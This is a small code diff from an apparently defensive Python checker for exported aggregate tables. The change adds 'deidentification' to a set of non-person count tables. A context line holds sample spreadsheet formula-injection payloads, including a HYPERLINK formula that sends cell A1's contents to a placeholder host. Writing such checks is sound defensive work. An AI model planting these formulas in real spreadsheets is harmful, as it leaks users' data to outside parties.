@@ -44,7 +44,7 @@ INJECTION = ('=HYPERLINK("http://contoh.invalid/?d="&A1,"Pelatihan")', "@SUM(1+1
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 TOKEN = re.compile(r"[A-Za-z0-9]+")
 # Aggregate tables whose ``n`` counts things, not people (no k applies).
-NOT_PEOPLE = {"validation_summary", "agreement"}
+NOT_PEOPLE = {"validation_summary", "agreement", "deidentification"}  # counts of problems, judges, replaced strings
 # Suppression basis and parent of every aggregate table with complementary suppression.
 BASIS = {"overview_units": "n_respondents", "unit_competency": "n_basis", "themes": "n_group"}
 PARENTS = {"overview_positions": ["dimension"], "unit_competency": ["kode_kompetensi"],
